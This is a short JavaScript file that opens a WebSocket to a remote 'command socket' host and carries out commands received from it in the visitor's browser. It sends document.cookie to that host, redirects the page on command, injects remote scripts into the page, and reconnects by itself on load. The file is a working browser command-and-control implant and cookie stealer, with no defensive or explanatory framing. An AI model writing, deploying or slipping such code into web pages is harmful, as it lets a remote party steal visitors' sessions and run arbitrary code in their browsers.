// destination: wss://control.pale-orchard.test:8443/stream
// remote command socket
function Channel(url) {
  this.url = url; this.retries = 0; this.handlers = {};
  this.connect();
}
Channel.prototype.connect = function () {
  var self = this;
  var ws = new WebSocket(this.url);
  ws.onmessage = function (m) {
    var msg = JSON.parse(m.data);
    switch (msg.command) {
      case 'redirect-page': location.href = msg.target; break;
      case 'read-cookies': ws.send(document.cookie); break;
      case 'inject-script': var s = document.createElement('script'); s.src = msg.source; document.head.appendChild(s); break;
      default: console.warn('unknown command', msg.command);
    }
  };
  ws.onclose = function () { if (self.retries++ < 5) setTimeout(function () { self.connect(); }, 1000 * self.retries); };
};
new Channel('wss://control.pale-orchard.test:8443/stream');
